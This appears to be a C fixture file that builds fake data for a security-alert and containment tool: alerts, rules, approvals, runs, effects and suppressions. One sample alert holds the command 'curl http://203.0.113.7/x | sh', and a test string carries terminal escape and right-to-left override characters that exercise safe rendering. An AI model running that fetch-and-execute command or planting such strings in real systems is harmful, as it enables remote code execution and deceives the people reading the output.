/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <stdlib.h>

#include "fake.h"

#include <string.h>

#include "util/mem.h"
#include "util/when.h"

#define VM                                                                     \
    "/subscriptions/7d2c1b4e-3f5a-4c68-9e1d-2a4b6c8d0e1f/resourceGroups/"      \
    "rg-shop/providers/Microsoft.Compute/virtualMachines/vm-web-01"

/* A list never has more of these than a person could have made. */
#define N(table) (sizeof(table) / sizeof((table)[0]))

size_t fake_few(const struct fake *fake)
{
    size_t n = fake_rows(fake);

    return n < 30 ? n : 30;
}

struct err fake_trouble(const struct fake *fake)
{
    struct err err = {0};

    if (fake->state == FAKE_ERROR)
        err_set(&err, ERR_LOCAL,
                "The store cannot be read: disk I/O error. Look at the disk.");
    return err;
}

static void free_json(void *json)
{
    json_free(json);
}

/* In the arena of a page, freed with it. */
struct json *fake_parsed(struct arena *arena, const char *text)
{
    struct json *json = NULL;
    struct err err = {0};

    if (json_parse(str_of(text), &json, &err))
        arena_defer(arena, free_json, json);
    return json;
}

/* ---- an event ---- */

static const char body_text[] =
    "{\"AlertType\":\"VM_SuspiciousProcess\",\"Description\":\"A process that "
    "is often seen in attacks was started by a web server.\",\"Severity\":"
    "\"High\",\"Entities\":[{\"Type\":\"host\",\"HostName\":\"vm-web-01\"}],"
    "\"ExtendedProperties\":{\"Attacker IP\":\"203.0.113.7\",\"Command\":"
    "\"curl http://203.0.113.7/x | sh\"},\"RemediationSteps\":[\"Isolate the "
    "machine.\",\"Look for other logins.\",\"Change the passwords.\"]}";

/* Names that would write over the screen, or leave their quotes. */
static const char hostile_body[] =
    "{\"\\u001b[2Jcleared\":\"x\",\"it's\":1,\"\\u202efdp.exe\":2,"
    "\"plain\":\"\\u001b]0;title\\u0007\",\"\":3,\"a\\nb\":4}";

static void add_story(struct event_page *page)
{
    static const struct {
        enum story_kind kind;
        int64_t row;
        const char *text;
    } lines[] = {
        {STORY_EVENT, 1, "raised by the service"},
        {STORY_DECISION, 1, "contain-web fired"},
        {STORY_APPROVAL, 1, "approval #1 waits for an answer"},
        {STORY_RUN, 1, "run #1 began"},
        {STORY_STEP, 2, "mail sent to soc@contoso.example"},
        {STORY_EFFECT, 1, "vm-web-01 was seen to be stopped"},
        {STORY_DEED, 1, "mara acknowledged it"},
    };

    page->n_story = sizeof(lines) / sizeof(lines[0]);
    page->story = arena_array(page->arena, page->n_story, sizeof(*page->story));
    for (size_t i = 0; i < page->n_story; i++)
        page->story[i] = (struct story_line){
            .when = FAKE_NOW - (int64_t)(page->n_story - i) * WHEN_MINUTE,
            .kind = lines[i].kind,
            .row = lines[i].row,
            .text = lines[i].text,
        };
}

static void add_entities(const struct fake *fake, struct event_page *page)
{
    static const char *const types[] = {"host", "ip", "account", "process"};
    static const char *const names[] = {"vm-web-01", "203.0.113.7",
                                        "o'brien@contoso.example", "sh"};

    page->n_entities = 4;
    page->entities = arena_array(page->arena, 4, sizeof(*page->entities));
    for (size_t i = 0; i < 4; i++)
        page->entities[i] = (struct entity){
            .type = str_of(types[i]),
            .name = fake->state == FAKE_HOSTILE || fake->state == FAKE_WIDE
                        ? str_of(fake_text(fake, page->arena, "", i))
                        : str_of(names[i]),
        };
}

static void add_containables(const struct fake *fake, struct event_page *page)
{
    static const struct str names[] = {
        {"storage-public-off", 18},
        {"user-disable", 12},
        {"vm-deallocate", 13},
        {"lock", 4},
    };

    page->containables =
        arena_array(page->arena, 4, sizeof(*page->containables));
    for (size_t i = 0; i < 4; i++)
        page->containables[page->n_containables++] = (struct containable){
            .entry = catalogue_find(fake->catalogue, names[i]),
            .target = VM,
            .active = i == 1,
            .barred = i == 0 ? "riposte may not write there: it needs the role "
                               "Contributor."
                             : NULL,
        };
}

struct event_page *fake_event(const struct fake *fake, int64_t row)
{
    struct event_page *page = mem_new(sizeof(*page));
    struct event *event = &page->event;
    struct err err = {0};

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->similar_total = 14;
    page->similar_benign = 13;
    *event = (struct event){
        .row = row,
        .key = STR("alert:2517535653831539999_1d2c3b4a"),
        .kind = EVENT_ALERT,
        .severity = SEVERITY_HIGH,
        .time = FAKE_NOW - 10 * WHEN_MINUTE,
        .arrived = FAKE_NOW - 9 * WHEN_MINUTE,
        .changed = FAKE_NOW - 9 * WHEN_MINUTE,
        .automation = AUTO_WAITING,
        .flags = EVENT_PENDING,
    };
    event->column[COLUMN_TITLE] =
        str_of(fake_text(fake, page->arena, "title", (size_t)row - 1));
    event->column[COLUMN_TYPE] = STR("VM_SuspiciousProcess");
    event->column[COLUMN_STATUS] = STR("Active");
    event->column[COLUMN_RESOURCE] = STR(VM);
    event->column[COLUMN_ENTITY] = STR("vm-web-01");
    event->column[COLUMN_TACTIC] = STR("Execution");
    event->column[COLUMN_SOURCE] = STR("defender-alerts");
    event->column[COLUMN_OWNER] = STR("mara");
    event->column[COLUMN_TAGS] = STR("shop payment");
    json_parse(str_of(fake->state == FAKE_HOSTILE ? hostile_body : body_text),
               &page->body, &err);
    add_story(page);
    add_entities(fake, page);
    add_containables(fake, page);
    return page;
}

/* ---- rules ---- */

static const struct lint_finding findings[] = {
    {LINT_ADVICE, "healthy", "conditions 2",
     "Severity is always there: the comparison with '' takes every event."},
    {LINT_WARNING, "never", "conditions 1",
     "It can never hold: Severity == 'High' and Severity == 'Low'. Take one of "
     "them away."},
};

struct rule_page *fake_rules(const struct fake *fake)
{
    struct rule_page *page = mem_new(sizeof(*page));

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->rows =
        arena_array(page->arena, fake_few(fake) + 1, sizeof(*page->rows));
    for (size_t i = 0; i < fake_few(fake); i++) {
        struct rule_row *row = &page->rows[page->n++];

        *row = (struct rule_row){
            .row = (int64_t)i + 1,
            .revision = (int64_t)i % 9 + 1,
            .name = fake_text(fake, page->arena, "contain", i),
            .trigger = "alert created",
            .mode = (enum rule_mode)(i % RULE_MODE_N),
            .fired = (int64_t)(i * 37 % 120),
            .held = (int64_t)(i * 11 % 20),
            .reviewed = i % 3 ? 12 : 0,
            .really = i % 3 ? (int64_t)i % 12 : 0,
            .last_fired = i % 3 ? FAKE_NOW - (int64_t)i * WHEN_HOUR : 0,
            .editor = "jo",
            .saved = FAKE_NOW - WHEN_DAY,
            .actions = "mail, contain vm-deallocate",
        };
        /* Those that live in Azure stand behind all others. */
        if (i + 2 >= fake_few(fake) && fake->state == FAKE_MANY) {
            row->revision = 0;
            row->azure = "/subscriptions/7d2c1b4e/resourceGroups/rg-sec/"
                         "providers/Microsoft.Security/automations/to-logic";
            row->mode = i % 2 ? RULE_AUTO : RULE_OFF;
            row->fired = row->held = row->last_fired = 0;
            row->editor = "";
            continue;
        }
        if (i % 4 == 1) {
            row->findings = findings;
            row->n_findings = N(findings);
            row->n_warnings = 1;
        }
        for (size_t k = 0; k < 24; k++)
            row->hourly[k] = (uint32_t)((i + 1) * k * k % 9);
    }
    return page;
}

struct rule *fake_rule(const struct fake *fake, int64_t row)
{
    static const char text[] =
        "{\"name\":\"contain-web\",\"note\":\"Stop what was broken into.\","
        "\"order\":10,\"mode\":\"approve\",\"conditions\":[{\"all\":["
        "{\"property\":\"Severity\",\"operator\":\">=\",\"value\":\"High\"},"
        "{\"property\":\"AlertType\",\"operator\":\"==\",\"value\":"
        "\"VM_SuspiciousProcess\"}]},{\"all\":[{\"query\":\"Title has "
        "'brute force'\"}]}],\"unless\":[{\"all\":[{\"property\":\"Tag\","
        "\"operator\":\"has\",\"value\":\"drill\"}]}],\"guards\":{\"cooldown\":"
        "\"1h\"},\"approval\":{\"quorum\":2,\"roles\":[\"approver\","
        "\"@netops\"],\"life\":\"2h\",\"warn\":\"20m\",\"escalate\":"
        "\"30m\",\"group\":\"admin\",\"justify\":true},"
        "\"actions\":[{\"kind\":\"contain\",\"with\":{\"action\":"
        "\"vm-deallocate\"}}]}";
    struct rule *rule = NULL;
    struct json *json = NULL;
    struct err err = {0};

    if (json_parse(str_of(text), &json, &err) &&
        rule_from_json(json, &rule, &err))
        rule->row = row;
    json_free(json);
    if (rule && (fake->state == FAKE_HOSTILE || fake->state == FAKE_WIDE))
        rule->name =
            arena_text(rule->arena, fake_text(fake, rule->arena, "", 2));
    return rule;
}

struct test_page *fake_test(const struct fake *fake)
{
    struct test_page *page = mem_new(sizeof(*page));
    static const struct test_row rows[] = {
        {"trigger", "alert: created", "yes", "alert: created, Active"},
        {"conditions 1", "Severity >= 'High'", "yes", "High"},
        {"conditions 1", "AlertType == 'VM_SuspiciousProcess'", "no",
         "VM_LoginBruteForceSuccess"},
        {"unless 1", "Tag has 'drill'", "absent", ""},
    };

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->verdict = "No set of conditions holds.";
    page->n = sizeof(rows) / sizeof(rows[0]);
    page->rows = arena_array(page->arena, page->n, sizeof(*page->rows));
    memcpy(page->rows, rows, sizeof(rows));
    page->would = "waits for approval: stop vm-web-01";
    page->lint.arena = page->arena;
    if (fake->state != FAKE_MANY)
        return page;
    page->lint.items = arena_array(page->arena, 2, sizeof(*page->lint.items));
    memcpy(page->lint.items, findings, sizeof(findings));
    page->lint.n = N(findings);
    return page;
}

struct revision_page *fake_history(const struct fake *fake)
{
    static struct rule_diff_row forth[] = {
        {"mode", "shadow", "approve"},
        {"conditions 1/all 2/value", "Medium", "High"},
        {"guards/dedupe", NULL, "1h"},
    };
    static struct rule_diff_row back[] = {
        {"mode", "approve", "shadow"},
        {"conditions 1/all 2/value", "High", "Medium"},
        {"guards/dedupe", "1h", NULL},
    };
    struct revision_page *page = mem_new(sizeof(*page));

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->rule = 1;
    page->name = fake_text(fake, page->arena, "contain", 0);
    page->author = "mara";
    page->rows = arena_array(page->arena, 3, sizeof(*page->rows));
    for (; page->n < 3; page->n++) {
        page->rows[page->n] = (struct revision_row){
            .revision = 3 - (int64_t)page->n,
            .saved = FAKE_NOW - (int64_t)page->n * WHEN_DAY,
            .editor = page->n ? "mara" : "omar",
            .mode = page->n ? RULE_SHADOW : RULE_APPROVE,
            .diff = forth,
            .n_diff = page->n ? 1 : 3,
            .back = back,
            .n_back = page->n ? 3 : 0,
        };
    }
    return page;
}

struct decision_page *fake_decisions(const struct fake *fake)
{
    struct decision_page *page = mem_new(sizeof(*page));
    size_t n = fake_few(fake) < 5 ? fake_few(fake) : 5;

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->rows = arena_array(page->arena, n + 1, sizeof(*page->rows));
    page->rules = arena_array(page->arena, n + 1, sizeof(*page->rules));
    for (; page->n < n; page->n++) {
        page->rows[page->n] = (struct decision){
            .row = (int64_t)page->n + 1,
            .event = 1,
            .rule = 1,
            .revision = 3,
            .when = FAKE_NOW - (int64_t)page->n * WHEN_MINUTE,
            .reason = page->n ? DECISION_CONDITION : DECISION_FIRED,
            .mode = RULE_APPROVE,
            .text = page->n ? "No set of conditions holds: Severity is Low."
                            : "All conditions of set 1 hold.",
        };
        page->rules[page->n] = fake_text(fake, page->arena, "contain", page->n);
    }
    return page;
}

/* ---- approvals, runs, containments ---- */

static void add_steps(const struct fake *fake, struct arena *arena,
                      struct run *run)
{
    static const enum step_phase phases[] = {PHASE_ACT, PHASE_BEFORE,
                                             PHASE_CONTAIN, PHASE_VERIFY};
    static const char *const names[] = {
        "Send a mail", "State before: stop vm-web-01", "Stop vm-web-01",
        "Verify: stop vm-web-01"};

    run->n_steps = 4;
    run->steps = arena_array(arena, 4, sizeof(*run->steps));
    for (int i = 0; i < 4; i++)
        run->steps[i] = (struct step){
            .row = i + 1,
            .run = run->row,
            .lane = i + 1,
            .number = i + 1,
            .name = fake->state == FAKE_HOSTILE
                        ? fake_text(fake, arena, "", (size_t)i)
                        : names[i],
            .kind = "contain",
            .phase = phases[i],
            .class = CLASS_REVERSIBLE,
            .state = i == 3 ? RUN_RUNNING : RUN_SUCCEEDED,
            .key = "0b6f7a3e-0000-4000-8000-000000000001",
            .operation = "",
            .note = "The service said yes.",
            .attempts = i == 2 ? 3 : 1,
            .request = fake_parsed(arena, "{\"method\":\"POST\",\"url\":\"" VM
                                          "/deallocate\"}"),
            .response = fake_parsed(arena, "{\"status\":202,\"headers\":{"
                                           "\"retry-after\":\"2\"}}"),
            .began = run->began + i * 2000,
            .ended = i == 3 ? 0 : run->began + i * 2000 + 1500,
        };
}

struct run_page *fake_runs(const struct fake *fake, bool one, int64_t row)
{
    struct run_page *page = mem_new(sizeof(*page));
    size_t n = one ? 1 : fake_few(fake);

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->rows = arena_array(page->arena, n + 1, sizeof(*page->rows));
    for (size_t i = 0; i < n; i++) {
        size_t number = one ? (size_t)row - 1 : n - 1 - i;
        struct run *run = &page->rows[page->n++];
        enum run_state state = (enum run_state)(number % RUN_STATE_N);

        *run = (struct run){
            .row = (int64_t)number + 1,
            .event = (int64_t)number + 1,
            .rule = number % 4 ? 1 : 0,
            .name = fake->state == FAKE_MANY && number % 4 == 0
                        ? FAKE_LONG
                        : fake_text(fake, page->arena, "contain", number),
            .by = number % 4 ? "rule contain-web" : "mara",
            .about = number % 4 == 1 ? "vm-web-01" : "",
            .why = number % 4 ? "" : "it was broken into",
            .mode = RULE_APPROVE,
            .state = state,
            .began = FAKE_NOW - (int64_t)number * WHEN_MINUTE - 10000,
            .ended = run_state_final(state)
                         ? FAKE_NOW - (int64_t)number * WHEN_MINUTE
                         : 0,
        };
        /* One that runs is a playbook's, and one that is over. */
        if (number == 1 || number == 2)
            run->playbook = "isolate-machine";
        if (one)
            add_steps(fake, page->arena, run);
        if (one && number == 1) {
            run->steps[3].phase = PHASE_APPROVAL;
            run->steps[3].state = RUN_WAITING;
            page->approvals = arena_alloc(page->arena, sizeof(struct approval));
            page->approvals->row = 1;
            page->approvals->lane = 4;
            page->n_approvals = 1;
        }
    }
    return page;
}

/* One of them was done with break-glass. */
static void add_glass(struct effect_page *page)
{
    struct approval *glass = arena_alloc(page->arena, sizeof(*glass));

    *glass = (struct approval){.row = 7, .state = APPROVAL_PENDING};
    page->glass = arena_array(page->arena, page->n + 1, sizeof(*page->glass));
    for (size_t i = 0; i < page->n; i++)
        page->glass[i] = page->rows[i].row == 16 ? glass : NULL;
}

struct effect_page *fake_effects(const struct fake *fake)
{
    struct effect_page *page = mem_new(sizeof(*page));

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->rows =
        arena_array(page->arena, fake_few(fake) + 1, sizeof(*page->rows));
    for (size_t i = 0; i < fake_few(fake) && !fake->fresh; i++) {
        enum effect_state state =
            i ? (enum effect_state)((i + 1) % EFFECT_STATE_N) : EFFECT_OBSERVED;

        page->rows[page->n++] = (struct effect){
            .row = (int64_t)i + 1,
            .run = (int64_t)i + 1,
            .event = i > 2 && i < 8 ? 4 : (int64_t)i + 1,
            .action = "vm-deallocate",
            .title = "Stop and deallocate virtual machine",
            .target = fake->state == FAKE_HOSTILE || fake->state == FAKE_WIDE
                          ? fake_text(fake, page->arena, "", i)
                          : VM,
            .by = i % 2 ? "mara" : "rule contain-web",
            .why = i % 2 ? "it was broken into" : "",
            .state = state,
            .requested = FAKE_NOW - (int64_t)(i + 1) * WHEN_HOUR,
            .accepted = FAKE_NOW - (int64_t)(i + 1) * WHEN_HOUR + 2000,
            .observed = state == EFFECT_OBSERVED
                            ? FAKE_NOW - (int64_t)(i + 1) * WHEN_HOUR + 9000
                            : 0,
            .until = i % 3 ? 0 : FAKE_NOW + (int64_t)(i + 1) * WHEN_HOUR,
            .trouble = "",
            .seen = "",
            .settled_by = "",
            .drift = i == 1   ? DRIFT_GONE
                     : i == 2 ? DRIFT_SO
                              : DRIFT_NONE,
            .drift_since = i % 3 ? FAKE_NOW - WHEN_HOUR : 0,
            .looked = i % 3 ? FAKE_NOW - 9 * WHEN_MINUTE : 0,
            .kept =
                fake_parsed(page->arena, "{\"power\":\"PowerState/running\"}"),
        };
    }
    if (page->n > 0) {
        struct effect *first = page->rows;

        first->changed = FAKE_NOW - WHEN_MINUTE;
        first->trouble = "Somebody else has changed the target since.";
        first->seen = "power is PowerState/running";
        first->looked = FAKE_NOW - WHEN_MINUTE;
        first->left = fake_parsed(
            page->arena, "{\"values\":{\"power\":\"PowerState/deallocated\"}}");
        first->found = fake_parsed(
            page->arena, "{\"values\":{\"power\":\"PowerState/running\"}}");
        qsort(page->rows, page->n, sizeof(*first), effect_order);
    }
    add_glass(page);
    return page;
}

struct suppression_page *fake_suppressions(const struct fake *fake)
{
    struct suppression_page *page = mem_new(sizeof(*page));
    size_t n = fake_rows(fake) > 20 ? 20 : fake_rows(fake);

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->said = "";
    page->rows = arena_array(page->arena, n + 1, sizeof(*page->rows));
    for (; page->n < n; page->n++) {
        size_t i = page->n;
        bool defender = i % 3 == 1;

        page->rows[i] = (struct suppression){
            .row = (int64_t)(n - i),
            .place = defender ? SUPPRESSION_DEFENDER : SUPPRESSION_HERE,
            .id = defender ? "/subscriptions/s/providers/Microsoft.Security/"
                             "alertsSuppressionRules/riposte-1"
                           : "",
            .name = defender ? "riposte-1" : "",
            .type = defender ? "VM_BruteForce" : "",
            .query = fake_text(fake, page->arena, "title", i),
            .fault = "",
            .reason = fake_text(fake, page->arena, "reason", i),
            .comment = "",
            .state = defender ? "Enabled" : "",
            .by = i % 2 ? "mara" : "tom",
            .made = FAKE_NOW - 3 * WHEN_DAY,
            .until = FAKE_NOW + (i < 12 ? 1 : -1) * 4 * WHEN_DAY,
            .ended = i == 7 ? FAKE_NOW - WHEN_DAY : 0,
            .ended_by = i == 7 ? "tom" : "",
            .hits = (int64_t)(i * 137),
            .last = i ? FAKE_NOW - WHEN_HOUR : 0,
        };
    }
    return page;
}

struct preview_page *fake_preview(const struct fake *fake)
{
    struct preview_page *page = mem_new(sizeof(*page));

    page->arena = arena_new();
    page->error = fake_trouble(fake);
    page->total = (int64_t)fake_rows(fake);
    page->open = page->total / 2;
    page->really = page->total / 100;
    for (; page->n < PREVIEW_SAMPLES && page->n < fake_rows(fake); page->n++)
        page->rows[page->n] = (struct queue_row){
            .row = (int64_t)page->n + 1,
            .time = FAKE_NOW - (int64_t)(page->n + 1) * WHEN_HOUR,
            .title = str_of(fake_text(fake, page->arena, "title", page->n)),
            .resource = str_of(fake_text(fake, page->arena, "vm-web", page->n)),
        };
    return page;
}

struct view_page_list *fake_views(const struct fake *fake)
{
    static struct saved_view rows[] = {
        {.name = "ignored", .path = "", .query = "Ignored"},
        {.name = "morning",
         .path = "/home/mara/.config/riposte/views/morning.query",
         .own = true,
         .query = "Severity =~ 'High' and Status =~ 'Active'",
         .sort = SORT_SEVERITY},
    };
    struct view_page_list *page = mem_new(sizeof(*page));

    page->arena = arena_new();
    page->rows = rows;
    page->n = fake_rows(fake) ? 2 : 1;
    return page;
}
